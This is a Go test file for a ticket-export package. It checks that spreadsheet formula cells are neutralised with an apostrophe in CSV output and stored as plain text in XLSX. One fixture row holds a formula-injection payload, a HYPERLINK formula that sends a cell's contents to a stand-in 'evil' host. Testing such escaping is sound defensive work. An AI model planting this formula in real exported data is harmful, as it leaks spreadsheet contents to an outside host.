package tabular_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"vorgang/core/tabular"
)

// rows is a table with cells a spreadsheet would run as formulas.
var rows = [][]string{
	{"number", "title", "count"},
	{"INC-1", `=HYPERLINK("http://evil/?"&A1)`, "-5"},
	{"INC-2", "+1+1", "3,5"},
	{"INC-3", "@SUM(A1)", ""},
	{"INC-4", "Drucker \"Raum 204\"; Flur", "0"},
}

func write(t *testing.T, format string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := tabular.New(&buf, format, "tickets")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCSV: formulas are written with an apostrophe, numbers as they are,
// and the Excel flavour has a byte order mark, ';' and CRLF.
func TestCSV(t *testing.T) {
	for _, tt := range []struct {
		format string
		comma  rune
		bom    bool
	}{{tabular.FormatCSV, ',', false}, {tabular.FormatExcelCSV, ';', true}} {
		t.Run(tt.format, func(t *testing.T) {
			b := write(t, tt.format)
			if got := bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}); got != tt.bom {
				t.Errorf("byte order mark: %v", got)
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte{0xEF, 0xBB, 0xBF})))
			r.Comma = tt.comma
			got, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			want := [][]string{rows[0], {"INC-1", `'=HYPERLINK("http://evil/?"&A1)`, "-5"}, {"INC-2", "'+1+1", "3,5"},
				{"INC-3", "'@SUM(A1)", ""}, rows[4]}
			for i := range want {
				if !slices.Equal(got[i], want[i]) {
					t.Errorf("row %d: %q, want %q", i, got[i], want[i])
				}
			}
			if crlf := strings.Contains(string(b), "\r\n"); crlf != tt.bom {
				t.Errorf("CRLF: %v", crlf)
			}
		})
	}
}

// TestXLSXReadBack opens the workbook with excelize and finds every cell
// as written: as text, formulas not escaped (a string cell is never
// evaluated) and none of them a formula.
func TestXLSXReadBack(t *testing.T) {
	f, err := excelize.OpenReader(bytes.NewReader(write(t, tabular.FormatXLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, []string{"tickets"}) {
		t.Errorf("sheets: %v", got)
	}
	got, err := f.GetRows("tickets")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(rows) {
		t.Fatalf("%d rows, want %d", len(got), len(rows))
	}
	for i := range rows {
		want := slices.Clone(rows[i])
		for len(want) > 0 && want[len(want)-1] == "" {
			want = want[:len(want)-1] // excelize drops empty trailing cells
		}
		if !slices.Equal(got[i], want) {
			t.Errorf("row %d: %q, want %q", i, got[i], want)
		}
	}
	if formula, err := f.GetCellFormula("tickets", "B2"); err != nil || formula != "" {
		t.Errorf("B2 is a formula: %q %v", formula, err)
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]string{"": "csv", "CSV": "csv", " xlsx ": "xlsx", "Excel": "excel"} {
		if got, err := tabular.ParseFormat(in); got != want || err != nil {
			t.Errorf("%q: %q %v", in, got, err)
		}
	}
	if _, err := tabular.ParseFormat("pdf"); err == nil {
		t.Error("pdf accepted")
	}
}
